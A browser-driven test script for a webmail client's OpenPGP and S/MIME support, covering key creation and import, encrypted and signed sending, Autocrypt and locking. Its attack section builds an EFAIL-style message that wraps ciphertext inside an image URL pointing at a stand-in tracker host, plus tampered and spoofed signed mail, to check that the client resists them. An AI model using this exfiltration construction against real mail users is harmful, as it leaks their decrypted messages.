// Encrypted and signed mail: keys made and imported, GnuPG and OpenSSL as the other party, attacks on what is encrypted.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { atOnce, page, withBrowser } from './browser.mjs';
import { Other } from './jmap.mjs';
import { answer, crlf, deliver, enter, inbox, keptHere, mail, newest, octetsOf, onThePhone, open, settings, to } from './sealed.mjs';
import { check, gallery, until } from './steps.mjs';

const [base, name, password, pictures] = process.argv.slice(2);
const { picture, accessible } = gallery(pictures, 'secret-');
const PASSPHRASE = 'seven quiet herons';
const SECRET = 'the heron lands at nine';
const BOB = 'bob@example.test';

const home = mkdtempSync(join(tmpdir(), 'veredus-gnupg-'));
function gpg(args, input) {
  return execFileSync('gpg', ['--homedir', home, '--batch', '--quiet', '--pinentry-mode', 'loopback', '--passphrase', '', '--trust-model', 'always', ...args], { input, stdio: ['pipe', 'pipe', 'pipe'], maxBuffer: 64 << 20 });
}

/** GnuPG's exit status is not enough: what it says tells whose signature is good. */
function gpgSays(args, input) {
  const said = join(home, 'status');
  const out = gpg(['--status-file', said, ...args], input);
  return { out: out.toString(), status: readFileSync(said, 'utf8') };
}

/** RFC 3156 §4 */
function sealed(subject, armour, more = '') {
  return mail(subject, 'multipart/encrypted; protocol="application/pgp-encrypted"; boundary=sealed',
    `--sealed\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--sealed\nContent-Type: application/octet-stream\n\n${armour}\n--sealed--\n`, more);
}

/** RFC 3156 §5 */
function signed(subject, part) {
  const signature = gpg(['--local-user', BOB, '--armor', '--detach-sign'], crlf(part)).toString();
  return mail(subject, 'multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"; boundary=signed',
    `--signed\n${part}\n--signed\nContent-Type: application/pgp-signature\n\n${signature}\n--signed--\n`);
}

/** By keyboard alone. */
async function makeKey(web, other) {
  await settings(web);
  await accessible(web, 'encryption, empty');
  await web.getByLabel('Passphrase', { exact: true }).first().focus();
  await web.keyboard.type(PASSPHRASE);
  await web.keyboard.press('Tab');
  await web.keyboard.type('something else!');
  await web.keyboard.press('Enter');
  await web.getByText('The two passphrases differ.').waitFor();
  await web.getByLabel('Passphrase once more').first().fill(PASSPHRASE);
  await web.keyboard.press('Enter');
  await web.getByRole('heading', { name: 'Your keys' }).waitFor();
  await picture(web, 'key');
  await accessible(web, 'encryption, with a key');
  const download = web.waitForEvent('download');
  await web.getByRole('button', { name: 'Export public key' }).click();
  gpg(['--import', await (await download).path()]);
  const { list } = await other.call('Preference/get', { ids: null });
  const kept = list.find((each) => each.name.startsWith('webmail.openpgp.key.'));
  const { readPrivateKey } = await import('openpgp');
  const key = await readPrivateKey({ armoredKey: kept.value.armored });
  check(!key.isDecrypted() && !JSON.stringify(list).includes(PASSPHRASE), 'the server has the key locked, and no passphrase');
}

async function receive(web, other) {
  const publicKey = gpg(['--armor', '--export', BOB]).toString();
  await deliver(other, mail('My key', 'multipart/mixed; boundary=m', `--m\nContent-Type: text/plain\n\nHere it is.\n--m\nContent-Type: application/pgp-keys; name=bob.asc\nContent-Disposition: attachment; filename=bob.asc\n\n${publicKey}\n--m--\n`));
  const inner = `Content-Type: multipart/mixed; boundary=i; protected-headers="v1"\nSubject: Where the heron lands\n\n--i\nContent-Type: text/html; charset=utf-8\n\n<p>${SECRET}</p><img src="https://tracker.test/pixel.png" width=200 height=100>\n--i\nContent-Type: text/plain; name=map.txt\nContent-Disposition: attachment; filename=map.txt\n\nnorth of the pier\n--i--\n`;
  const armour = gpg(['--local-user', BOB, '--recipient', BOB, '--recipient', name, '--armor', '--sign', '--encrypt'], crlf(inner)).toString();
  await deliver(other, sealed('...', armour));
  await inbox(web);
  let asked = 0;
  web.on('request', (request) => { if (/tracker|web\/image/.test(request.url())) asked++; });
  let article = await open(web, '...');
  await article.getByText('Signed with a key that is not known here.').waitFor();
  article = await open(web, 'My key');
  await article.getByText(`A public key of ${BOB}`).waitFor();
  await picture(web, 'offer');
  await accessible(web, 'a key is offered');
  await article.getByRole('button', { name: 'Keep in contacts' }).click();
  await web.getByText('The key is kept with').waitFor();
  article = await open(web, '...');
  await article.getByText('Signed by Bob. The key is in your contacts.').waitFor();
  await article.getByText('Where the heron lands').waitFor();
  await web.frameLocator('iframe').getByText(SECRET).waitFor();
  check(await article.getByRole('button', { name: 'Show pictures' }).count() === 0, 'pictures from elsewhere are offered in what is encrypted');
  await article.getByRole('button', { name: /map\.txt/ }).first().click();
  await web.getByText('north of the pier').waitFor();
  await web.keyboard.press('Escape');
  check(asked === 0, 'a picture of encrypted mail was fetched');
  await picture(web, 'opened');
  await accessible(web, 'opened');
}

/** What attackers do with what they cannot read, and what is wrong in other ways. */
async function attacks(web, other) {
  const armour = gpg(['--recipient', name, '--armor', '--encrypt'], crlf(`Content-Type: text/plain\n\n${SECRET}\n`)).toString();
  const body = armour.replace(/\r/g, '');
  const lines = body.split('\n');
  const at = lines.findLastIndex((line) => line.length > 30 && !line.startsWith('-'));
  const broken = lines.map((line, i) => (i === at ? line.replace(/^..../, (four) => (four === 'AAAA' ? 'BBBB' : 'AAAA')) : line)).filter((line) => !line.startsWith('=')).join('\n');
  const part = 'Content-Type: text/plain; charset=utf-8\n\nThe price is 40 pounds.';
  const right = signed('Right', part);
  const clear = gpg(['--local-user', BOB, '--armor', '--clearsign'], crlf('The boat is blue.\n')).toString();
  const inline = gpg(['--local-user', BOB, '--recipient', name, '--armor', '--sign', '--encrypt'], 'Only you can read this.\n').toString();
  await deliver(other,
    // EFAIL: what is encrypted between the ends of an address of a picture
    mail('Exfiltrate', 'multipart/mixed; boundary=e', `--e\nContent-Type: text/html\n\n<img src="https://tracker.test/?\n--e\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=f\n\n--f\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--f\nContent-Type: application/octet-stream\n\n${body}\n--f--\n--e\nContent-Type: text/html\n\n">\n--e--\n`),
    mail('Beside', 'text/plain', `Read this:\n${body}\nthanks`),
    sealed('Broken', broken),
    right,
    right.replace('Subject: Right', 'Subject: Changed').replace('40 pounds', '90 pounds').replace(/<s\d+@/, '<changed@'),
    right.replace('Subject: Right', 'Subject: Stranger').replace(`Bob <${BOB}>`, 'Eve <eve@example.test>').replace(/<s\d+@/, '<stranger@'),
    mail('Clear', 'text/plain', clear),
    mail('Inline', 'text/plain', inline),
  );
  await inbox(web);
  const says = async (subject, words, not) => {
    const article = await open(web, subject);
    await article.getByText(words).waitFor({ timeout: 8000 }).catch(async (late) => { console.error(await article.innerText()); throw late; });
    if (not !== undefined) check(!(await article.innerText()).includes(not), `${subject} shows ${not}`);
  };
  await says('Exfiltrate', 'Only a part of this message is encrypted.', SECRET);
  await says('Beside', 'Only a part of this message is encrypted.', SECRET);
  await says('Broken', 'It cannot be opened', SECRET);
  await says('Right', 'Signed by Bob. The key is in your contacts.');
  await says('Changed', 'The signature is wrong');
  await picture(web, 'wrong');
  await accessible(web, 'a wrong signature');
  await says('Stranger', 'Signed with a key that is not known here.');
  await says('Clear', 'The boat is blue.', 'BEGIN PGP');
  await says('Inline', 'Only you can read this.');
  await says('Inline', 'Encrypted: only its readers can open it.');
}

async function write(web, other, bob) {
  await inbox(web);
  const composer = web.locator('.composer');
  await web.keyboard.press('c');
  await to(composer, BOB);
  await composer.getByRole('button', { name: 'Encrypt' }).click();
  await composer.getByText('There is a key for every recipient.').waitFor();
  await composer.getByRole('textbox', { name: 'Subject' }).fill('Übermorgen');
  await composer.getByRole('textbox', { name: 'Message' }).click();
  await web.keyboard.type('We meet at the grey boathouse.');
  await composer.locator('input[type=file]').setInputFiles({ name: 'Plan für Bob.txt', mimeType: 'text/plain', buffer: Buffer.from('left of the door') });
  await composer.getByText('Saved', { exact: true }).waitFor();
  const draft = await octetsOf(other, await newest(other, 'drafts'));
  check(/multipart\/encrypted/.test(draft) && !/boathouse|bermorgen/.test(draft), 'the draft is readable on the server');
  await picture(web, 'writing');
  await accessible(web, 'writing encrypted');
  await to(composer, 'carol@elsewhere.test');
  await composer.getByText('No key for carol@elsewhere.test').waitFor();
  await picture(web, 'no-key');
  await composer.getByRole('button', { name: /carol@elsewhere/ }).last().click();
  await composer.getByText('There is a key for every recipient.').waitFor();
  await composer.getByRole('button', { name: 'Send', exact: true }).click();
  await composer.waitFor({ state: 'detached' });
  let got;
  await until(async () => {
    got = await newest(bob, 'inbox');
    return got?.subject === '[...]';
  }, 'it arrives, its subject hidden');
  const whole = await octetsOf(bob, got);
  const armour = whole.slice(whole.indexOf('-----BEGIN PGP MESSAGE'), whole.indexOf('-----END PGP MESSAGE-----') + 25);
  const { out, status } = gpgSays(['--decrypt'], armour);
  check(/GOODSIG/.test(status), `GnuPG: ${status}`);
  check(/^Subject: =\?utf-8\?B\?/m.test(out) && /hp="cipher"/.test(out) && /HP-Outer: Subject: \[\.\.\.\]/.test(out), 'the header is inside');
  check(out.includes(Buffer.from('left of the door').toString('base64')), 'the file is inside');
  check(Buffer.from(/text\/plain; charset=utf-8[\s\S]*?\r?\n\r?\n([\s\S]*?)--/.exec(out)[1], 'base64').toString().includes('grey boathouse'), 'the text is inside');
  check(/^Autocrypt: addr=/m.test(whole), 'it brings the key');
  for (const key of ['g', 't']) await web.keyboard.press(key);
  await web.locator('#list').getByText('Encrypted message').first().waitFor();
  for (const key of ['g', 'i']) await web.keyboard.press(key);
  const sent = await newest(other, 'sent');
  check(!/boathouse/.test(await octetsOf(other, sent)), 'what was sent is kept readable');
}

async function signOnly(web, bob) {
  const composer = web.locator('.composer');
  await web.keyboard.press('c');
  await to(composer, BOB);
  await composer.getByRole('button', { name: 'Sign', exact: true }).click();
  await composer.getByRole('textbox', { name: 'Subject' }).fill('For all to read');
  await composer.getByRole('textbox', { name: 'Message' }).click();
  await web.keyboard.type('Signed, not sealed.');
  await composer.getByRole('button', { name: 'Send', exact: true }).click();
  await composer.waitFor({ state: 'detached' });
  let got;
  await until(async () => {
    got = await newest(bob, 'inbox');
    return got?.subject === 'For all to read';
  }, 'what is signed arrives');
  const whole = await octetsOf(bob, got);
  const boundary = /multipart\/signed; boundary="([^"]+)"/.exec(whole)[1];
  const [, part, signature] = whole.split(`--${boundary}`);
  check(/micalg="pgp-sha(?:256|512)"/.test(whole), 'micalg');
  writeFileSync(join(home, 'part'), part.slice(2, -2));
  writeFileSync(join(home, 'part.asc'), signature.slice(signature.indexOf('-----BEGIN')));
  const { status } = gpgSays(['--verify', join(home, 'part.asc'), join(home, 'part')]);
  check(/GOODSIG/.test(status), `GnuPG: ${status}`);
}

/** Mail that is neither brings the key all the same, in its header and, if asked to, as a file. */
async function plainly(web, bob) {
  const composer = web.locator('.composer');
  await web.keyboard.press('c');
  await to(composer, BOB);
  await composer.getByRole('textbox', { name: 'Subject' }).fill('My key, too');
  await composer.getByRole('button', { name: 'More', exact: true }).click();
  await web.getByRole('menuitem', { name: 'Attach my public key' }).click();
  await composer.getByText(`${name}.asc`).waitFor();
  await composer.getByText('Saved', { exact: true }).waitFor();
  await composer.getByRole('button', { name: 'Send', exact: true }).click();
  await composer.waitFor({ state: 'detached' });
  let got;
  await until(async () => {
    got = await newest(bob, 'inbox');
    return got?.subject === 'My key, too';
  }, 'plain mail arrives');
  const whole = await octetsOf(bob, got);
  const [, field] = /^Autocrypt: addr=alice@example\.test; keydata=([\s\S]*?)\r\n\S/m.exec(whole);
  const shown = gpg(['--show-keys', '--with-colons'], Buffer.from(field.replace(/\s+/g, ''), 'base64')).toString();
  check(/uid:.*alice@example\.test/.test(shown), `Autocrypt: ${shown}`);
  check(/Content-Type: application\/pgp-keys/i.test(whole), 'the key is attached');
}

async function autocrypt(web, other) {
  gpg(['--quick-generate-key', 'Dora <dora@elsewhere.test>', 'future-default', 'default', 'never']);
  const data = gpg(['--export', '--export-options', 'export-minimal', 'dora@elsewhere.test']).toString('base64').replace(/(.{70})/g, '$1\n ');
  await deliver(other, mail('Hello from Dora', 'text/plain', 'Hi.', `Autocrypt: addr=dora@elsewhere.test; prefer-encrypt=mutual; keydata=\n ${data}\n`, 'Dora <dora@elsewhere.test>'));
  await inbox(web);
  await web.keyboard.press('c');
  const composer = web.locator('.composer');
  await to(composer, 'dora@elsewhere.test');
  await composer.getByRole('button', { name: 'Encrypt' }).click();
  await composer.getByText('The key came by mail, and nobody has confirmed it: dora@elsewhere.test').waitFor();
  await picture(web, 'autocrypt');
  await composer.getByRole('button', { name: 'Discard the draft' }).click();
}

async function lockAndUnlock(web) {
  await settings(web);
  await web.getByRole('button', { name: 'Lock now' }).click();
  await inbox(web);
  const article = await open(web, '...');
  await article.getByText('This message is encrypted.').waitFor();
  await picture(web, 'locked');
  await accessible(web, 'locked');
  await article.getByRole('button', { name: 'Unlock' }).click();
  await web.getByRole('dialog').getByLabel('Passphrase').fill('not that one');
  await web.keyboard.press('Enter');
  await web.getByText('That is not the passphrase.').waitFor();
  await picture(web, 'unlock');
  await accessible(web, 'unlock');
  await web.getByRole('dialog').getByLabel('Passphrase').fill(PASSPHRASE);
  await web.keyboard.press('Enter');
  await article.getByText('Where the heron lands').waitFor();
}

/** A key that GnuPG has made, with its own passphrase. */
async function importKey(web) {
  const theirs = 'old but gold pass';
  const run = (...args) => execFileSync('gpg', ['--homedir', home, '--batch', '--quiet', '--pinentry-mode', 'loopback', '--passphrase', theirs, ...args], { stdio: ['pipe', 'pipe', 'pipe'] }).toString();
  run('--quick-generate-key', 'Alice at home <alice@home.test>', 'rsa3072', 'default', 'never');
  await settings(web);
  await web.getByLabel('Secret key, as text').fill(run('--armor', '--export-secret-keys', 'alice@home.test'));
  await web.getByLabel('Passphrase', { exact: true }).nth(1).fill('wrong');
  await web.getByRole('button', { name: 'Import a key' }).click();
  await web.getByText('That is not the passphrase.').waitFor();
  await web.getByLabel('Passphrase', { exact: true }).nth(1).fill(theirs);
  await web.getByRole('button', { name: 'Import a key' }).click();
  await until(async () => (await web.getByRole('button', { name: 'Export secret key' }).count()) === 2, 'the imported key is there');
  await picture(web, 'imported');
  web.once('dialog', (dialog) => dialog.accept());
  await web.getByRole('button', { name: 'Remove', exact: true }).first().click();
  await until(async () => (await web.getByRole('button', { name: 'Export secret key' }).count()) === 1, 'the imported key has gone');
}

/** S/MIME as OpenSSL makes it: the server's word is shown, and what is signed in one piece is read. */
async function smime(web, other) {
  const key = join(home, 'smime.key');
  const certificate = join(home, 'smime.pem');
  const openssl = (args, input) => execFileSync('openssl', args, { input, stdio: ['pipe', 'pipe', 'pipe'] });
  openssl(['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-out', certificate, '-days', '30', '-subj', '/CN=Bob', '-addext', `subjectAltName=email:${BOB}`]);
  const sign = (subject, ...more) => openssl(['cms', '-sign', '-signer', certificate, '-inkey', key, '-from', `Bob <${BOB}>`, '-to', name, '-subject', subject, ...more], 'Content-Type: text/plain\n\nSigned by a certificate.\n').toString();
  await deliver(other, crlf(sign('Certified beside')), crlf(sign('Certified within', '-nodetach')));
  await inbox(web);
  for (const subject of ['Certified beside', 'Certified within']) {
    const article = await open(web, subject);
    await article.getByText('The signature (S/MIME) does not prove who wrote it.').waitFor();
    await article.getByText('does not lead to an authority that is trusted').waitFor();
    await article.getByText('Signed by a certificate.').waitFor();
  }
  await picture(web, 'smime');
  await accessible(web, 'S/MIME');
}

/** Nothing that was opened is in the browser's own store. */
async function nothingKept(web) {
  const kept = await keptHere(web);
  check(kept.includes('My key'), 'the browser keeps mail at all');
  check(!/heron|boathouse/.test(kept), 'what was opened is kept in the browser');
}

try {
  await withBrowser(async (browser) => {
    gpg(['--quick-generate-key', `Bob <${BOB}>`, 'future-default', 'default', 'never']);
    const other = await new Other(base, name, password).open();
    const bob = await new Other(base, BOB, password).open();
    const web = await page(browser, base, { acceptDownloads: true });
    await atOnce(web);
    await enter(web, name, password, true);
    await web.getByRole('navigation', { name: 'Mailboxes' }).waitFor();
    await makeKey(web, other);
    await receive(web, other);
    await attacks(web, other);
    await write(web, other, bob);
    await signOnly(web, bob);
    await plainly(web, bob);
    await answer(web, other, 'key');
    await autocrypt(web, other);
    await smime(web, other);
    await lockAndUnlock(web);
    await importKey(web);
    await nothingKept(web);
    await onThePhone(browser, { base, name, password, passphrase: PASSPHRASE, picture, accessible }, { row: '...', within: 'Where the heron lands', heading: 'Your keys' });
    check(web.troubles.length === 0, web.troubles.join('\n'));
  });
} finally {
  execFileSync('gpgconf', ['--homedir', home, '--kill', 'all'], { stdio: 'ignore' });
  rmSync(home, { recursive: true, force: true });
}
